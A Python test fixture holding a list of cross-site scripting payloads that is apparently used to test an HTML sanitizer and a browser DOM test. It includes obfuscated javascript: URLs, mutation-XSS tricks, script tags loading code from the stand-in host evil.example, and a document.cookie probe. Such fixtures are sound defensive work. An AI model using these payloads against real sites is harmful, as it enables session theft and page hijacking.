"""XSS payloads for every place a person's text is shown (comments, titles, form values, file
names): script tags, event handlers, `javascript:`/`data:`/`vbscript:` URLs in several spellings
and encodings, SVG and MathML, mutation XSS (noscript, template, style, comments, namespace
confusion), broken markup, and what editors (Word, Google Docs) put on the clipboard. Shared by
tests/unit/test_rich_text.py (the sanitizer's output) and the console's browser XSS test (the DOM).
"""

from __future__ import annotations

XSS_PAYLOADS: list[str] = [
    # Script tags, plain and disguised
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script/xss src=//evil.example/x.js></script>",
    '"><script>alert(document.cookie)</script>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<p onclick=alert(1)>click</p>",
    "<a href='https://example.com' onfocus=alert(1) autofocus>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<strong/onpointerenter=alert(1)>x</strong>",
    # URLs: javascript:, data:, vbscript:, in several spellings and encodings
    "<a href='javascript:alert(1)'>link</a>",
    "<a href='JaVaScRiPt:alert(1)'>link</a>",
    "<a href=' javascript:alert(1)'>link</a>",
    "<a href='java\tscript:alert(1)'>link</a>",
    "<a href='java\nscript:alert(1)'>link</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>link</a>",
    "<a href='&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>link</a>",
    "<a href='jav&#x09;ascript:alert(1)'>link</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>link</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>link</a>",
    "<a href='vbscript:msgbox(1)'>link</a>",
    "<a href='//evil.example/x'>protocol-relative</a>",
    "<a href='/relative'>relative</a>",
    "<a href='file:///etc/passwd'>file</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<form action='javascript:alert(1)'><button>go</button></form>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<link rel=stylesheet href='javascript:alert(1)'>",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>click</math>",
    # Mutation XSS: noscript, template, style, comments, namespace confusion
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<style><img src=x onerror=alert(1)></style>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<p><!--</p><img src=x onerror=alert(1)>-->",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    # Styles and CSS tricks
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='width: expression(alert(1))'>x</div>",
    "<span style='position:fixed;top:0;left:0;width:100%;height:100%'>overlay</span>",
    # Broken markup
    "<img src=x onerror=alert(1)",
    "<a href='javascript:alert(1)'",
    "<<img src=x onerror=alert(1)//>",
    '<img """><script>alert(1)</script>">',
    "<scri\tpt>alert(1)</scri\tpt>",
    '<a href="https://ok.example"onclick=alert(1)>x</a>',
    "<p>unclosed <b>bold <i>italic <a href='javascript:alert(1)'>",
    "</p></div></body></html><script>alert(1)</script>",
    # Pasted from Word and Google Docs
    "<html xmlns:o='urn:schemas-microsoft-com:office:office'><head><style>p.MsoNormal{margin:0}"
    "</style></head><body><p class=MsoNormal style='mso-line-height:12pt'>Approved<o:p></o:p>"
    "</p><!--[if gte mso 9]><xml><o:OfficeDocumentSettings></o:OfficeDocumentSettings></xml>"
    "<![endif]--></body></html>",
    "<p class=MsoNormal><span lang=EN-GB style='font-family:Calibri' onmouseover=alert(1)>"
    "Budget ok</span></p>",
    '<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1234">'
    '<p dir="ltr" style="line-height:1.38"><span style="font-size:11pt">Looks good</span></p>'
    '<a href="javascript:alert(1)" style="text-decoration:none">see</a></b>',
    "<google-sheets-html-origin><table><tr><td data-sheets-value='{\"1\":2}' "
    "onclick=alert(1)>1</td></tr></table></google-sheets-html-origin>",
]
